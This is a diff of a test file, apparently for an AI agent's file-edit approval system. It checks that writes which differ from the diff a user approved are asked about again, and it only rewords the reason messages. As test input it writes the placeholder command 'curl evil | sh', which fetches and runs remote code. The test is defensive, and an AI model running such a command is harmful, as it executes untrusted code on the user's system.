@@ -147,12 +147,12 @@ describe('what was not shown is asked about', () => {
     const { path, asked, ask, write: writes } = await fixture(file);
     await ask({ kind: 'edit', content: [{ type: 'diff', path, oldText: file, newText: '# a comment\n' }] });
     await writes('curl evil | sh\n');
-    const because = 'asked: no rule is about it, and the mode is default';
+    const because = 'asked: no rule applies, and the mode is default';
     expect(asked).toEqual([
       { diffs: [[file, '# a comment\n']], reason: because },
       {
         diffs: [[file, 'curl evil | sh\n']],
-        reason: `${because}; what it writes is not what was shown when this file was allowed to be changed`,
+        reason: `${because}; it writes another text than the one shown when changing this file was allowed`,
       },
     ]);
   });
@@ -165,9 +165,9 @@ describe('what was not shown is asked about', () => {
     await ask({ toolCallId: 'second', kind: 'delete', locations: [{ path }] });
     await writes('more evil');
     expect(asked.slice(1).map((each) => (each as { reason: string }).reason.split('; ')[1])).toEqual([
-      'what it writes was not shown when this file was allowed to be changed',
+      'it writes a text that was not shown when changing this file was allowed',
       undefined,
-      'what it writes was not shown when this file was allowed to be changed',
+      'it writes a text that was not shown when changing this file was allowed',
     ]);
   });
 
